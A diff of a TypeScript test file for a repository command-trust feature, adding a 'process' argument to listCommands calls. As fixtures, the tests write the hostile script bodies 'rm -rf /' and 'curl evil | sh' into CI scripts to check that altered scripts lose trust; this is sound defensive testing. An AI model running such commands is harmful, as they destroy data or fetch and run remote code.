@@ -127,7 +127,11 @@ describe('trust in the commands of a repository', () => {
     writeFileSync(script, 'rm -rf /\n');
     await using engine = await tempEngine();
     writeConfig(repo, { review: { ci_steps: ['./scripts/ci.sh --all'] } });
-    const [listed] = await listCommands({ paths: pathsAt(repo), store: engine.temp.store }, place.home);
+    const [listed] = await listCommands(
+      { paths: pathsAt(repo), store: engine.temp.store },
+      place.home,
+      process,
+    );
     expect(listed).toMatchObject({ state: 'changed', scripts: ['scripts/ci.sh'] });
   });
 
@@ -136,8 +140,8 @@ describe('trust in the commands of a repository', () => {
     const { at, repo, home } = place;
     await using engine = await tempEngine();
     const list = async () =>
-      (await listCommands({ paths: pathsAt(repo), store: engine.temp.store }, home)).filter(({ command }) =>
-        command.startsWith('settings for agents'),
+      (await listCommands({ paths: pathsAt(repo), store: engine.temp.store }, home, process)).filter(
+        ({ command }) => command.startsWith('settings for agents'),
       );
     const attempt = join(place.home, 'attempt');
     const trusts = (): boolean => trustsAgentSettings(at(repo), attempt);
@@ -311,7 +315,7 @@ describe('listCommands', () => {
     await using engine = await tempEngine();
     writeFileSync(join(repo, 'ci.sh'), 'true\n');
     writeConfig(repo, { review: { ci_steps: ['./ci.sh'] } });
-    const listed = await listCommands({ paths: pathsAt(repo), store: engine.temp.store }, home);
+    const listed = await listCommands({ paths: pathsAt(repo), store: engine.temp.store }, home, process);
     writeFileSync(join(repo, 'ci.sh'), 'curl evil | sh\n');
     await trustListed(at(repo), listed, BY);
     expect(await isTrusted(at(repo), './ci.sh')).toBe(false);
@@ -338,7 +342,7 @@ describe('listCommands', () => {
     const closed = await withSteps('closed', ['closed']);
     const by = { actor: ANN, now: engine.temp.clock.now() };
     await store.closeTask({ id: closed, reason: 'done' }, by);
-    const listed = await listCommands({ paths: pathsAt(repo), store }, home);
+    const listed = await listCommands({ paths: pathsAt(repo), store }, home, process);
     const seen = listed.map(({ command, sources, scripts, state }) => ({ command, sources, scripts, state }));
     expect(seen).toEqual([
       {
